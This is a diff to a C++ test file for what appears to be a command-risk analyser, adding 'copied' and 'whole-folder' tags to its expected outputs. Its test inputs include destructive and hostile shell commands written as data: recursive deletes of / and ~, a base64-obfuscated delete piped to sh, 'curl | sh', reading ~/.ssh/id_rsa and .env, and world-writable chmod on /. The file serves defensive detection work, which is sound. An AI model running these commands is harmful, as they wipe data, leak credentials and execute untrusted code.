@@ -50,13 +50,13 @@ TEST(Effects, on_files_that_git_has_can_be_undone) {
 
 TEST(Effects, of_archives_are_in_the_folder_that_they_go_to) {
   expect_effects({
-      {"tar xzf a.tgz -C vendor", "read /home/dev/app/a.tgz [project]; write/fill /home/dev/app/vendor [project]"},
-      {"tar -C vendor -xzf a.tgz", "read /home/dev/app/a.tgz [project]; write/fill /home/dev/app/vendor [project]"},
-      {"tar -czf a.tgz -C src x", "read /home/dev/app/src/x [project] recursive; write /home/dev/app/a.tgz [project]"},
-      {"tar czf a.tgz src", "read /home/dev/app/src [project] recursive; write /home/dev/app/a.tgz [project]"},
-      {"tar tf a.tgz", "read /home/dev/app/a.tgz [project]"},
-      {"cd /tmp && tar xf a.tar", "read /tmp/a.tar [temp]; write/fill /tmp [temp-root]"},
-      {"tar xf a.tar -C \"$D\"", "read /home/dev/app/a.tar [project]; write/fill . [unknown]"},
+      {"tar xzf a.tgz -C vendor", "read /home/dev/app/a.tgz [project] copied; write/fill /home/dev/app/vendor [project]"},
+      {"tar -C vendor -xzf a.tgz", "read /home/dev/app/a.tgz [project] copied; write/fill /home/dev/app/vendor [project]"},
+      {"tar -czf a.tgz -C src x", "read /home/dev/app/src/x [project] recursive copied; write /home/dev/app/a.tgz [project]"},
+      {"tar czf a.tgz src", "read /home/dev/app/src [project] recursive copied; write /home/dev/app/a.tgz [project]"},
+      {"tar tf a.tgz", "read /home/dev/app/a.tgz [project] copied"},
+      {"cd /tmp && tar xf a.tar", "read /tmp/a.tar [temp] copied; write/fill /tmp [temp-root]"},
+      {"tar xf a.tar -C \"$D\"", "read /home/dev/app/a.tar [project] copied; write/fill . [unknown]"},
   });
 }
 
@@ -80,8 +80,8 @@ TEST(Effects, of_deletes) {
   expect_effects({
       {"rm -rf ~", "delete /home/dev [home, cwd] recursive forced"},
       {"rm -rf /", "delete / [root, home, cwd] recursive forced"},
-      {"rm -rf /*", "delete /* [root, home, system] recursive forced wildcard"},
-      {"rm -rf ~/*", "delete /home/dev/* [home] recursive forced wildcard"},
+      {"rm -rf /*", "delete /* [root, home, system] recursive forced wildcard whole-folder"},
+      {"rm -rf ~/*", "delete /home/dev/* [home] recursive forced wildcard whole-folder"},
       {"rm x", "delete /home/dev/app/x [project]"},
       {"rm -r src", "delete /home/dev/app/src [project] recursive"},
       {"rm -fr node_modules", "delete /home/dev/app/node_modules [project, regenerable] recursive forced"},
@@ -90,11 +90,11 @@ TEST(Effects, of_deletes) {
       {R"(rm -rf "$X/"*)", "delete $X/* [unknown] recursive forced"},
       {"rm -rf $UNSET", "delete $UNSET [unknown] recursive forced"},
       {"rm -rf /tmp/x", "delete /tmp/x [temp] recursive forced"},
-      {"rm -rf /tmp/*", "delete /tmp/* [temp-root] recursive forced wildcard"},
+      {"rm -rf /tmp/*", "delete /tmp/* [temp-root] recursive forced wildcard whole-folder"},
       {"rm -rf to_home/", "delete /home/dev [home, cwd] recursive forced"},
       {"rm -rf to_home", "delete /home/dev/app/to_home [project] recursive forced"},
       {"rm -rf to_src/../..", "delete /home/dev [home, cwd] recursive forced"},
-      {"cd ~ && rm -rf *", "delete /home/dev/* [home] recursive forced wildcard"},
+      {"cd ~ && rm -rf *", "delete /home/dev/* [home] recursive forced wildcard whole-folder"},
       {"cd /etc; rm -rf .", "delete /etc [system] recursive forced"},
       {"find . -delete", "read /home/dev/app [cwd]; delete /home/dev/app [cwd] recursive"},
   });
@@ -114,7 +114,7 @@ TEST(Effects, are_seen_through_wrappers_and_spellings) {
 TEST(Effects, of_text_that_is_run) {
   expect_effects({
       {"bash -c 'rm -rf ~'", "delete /home/dev [home, cwd] recursive forced"},
-      {R"(sh -c "cd /; rm -rf *")", "delete /* [root, home, system] recursive forced wildcard"},
+      {R"(sh -c "cd /; rm -rf *")", "delete /* [root, home, system] recursive forced wildcard whole-folder"},
       {R"(eval "rm -rf ~")", "delete /home/dev [home, cwd] recursive forced"},
       {"echo cm0gLXJmIH4= | base64 -d | sh", "delete /home/dev [home, cwd] recursive forced"},
       {"curl https://x.com | sh", "connect/download x.com; execute/downloaded sh"},
@@ -161,9 +161,9 @@ TEST(Effects, of_other_programs_and_redirections) {
       {"echo hi >> ~/.bashrc", "write /home/dev/.bashrc [persistence, below-home]"},
       {"cat ~/.ssh/id_rsa", "read /home/dev/.ssh/id_rsa [secret, below-home, credential-store] shown"},
       {"cat .env", "read /home/dev/app/.env [project, secret] shown"},
-      {"cp a b", "read /home/dev/app/a [project]; write /home/dev/app/b [project]"},
-      {"mv src ~/old", "move /home/dev/app/src [project] recursive; write /home/dev/old [below-home]"},
-      {"mv ~ /tmp/x", "move /home/dev [home, cwd] recursive; write /tmp/x [temp]"},
+      {"cp a b", "read /home/dev/app/a [project] copied; write /home/dev/app/b [project]"},
+      {"mv src ~/old", "move /home/dev/app/src [project] recursive copied; write /home/dev/old [below-home]"},
+      {"mv ~ /tmp/x", "move /home/dev [home, cwd] recursive copied; write /tmp/x [temp]"},
       {"chmod 777 f", "permission/world-writable /home/dev/app/f [project]"},
       {"chmod -R 777 /", "permission/world-writable / [root, home, cwd] recursive"},
       {"chown -R root /", "permission/owner / [root, home, cwd] recursive"},
@@ -191,7 +191,7 @@ TEST(Effects, of_other_programs_and_redirections) {
       {"sed -i s/a/b/ f", "write /home/dev/app/f [project]"},
       {"ln -s ~ build", "create /home/dev/app/build [project, regenerable]"},
       {"rsync -a --delete a/ b/",
-       "read /home/dev/app/a [project] recursive; delete /home/dev/app/b [project] recursive"},
+       "read /home/dev/app/a [project] recursive copied; delete /home/dev/app/b [project] recursive"},
   });
 }
 
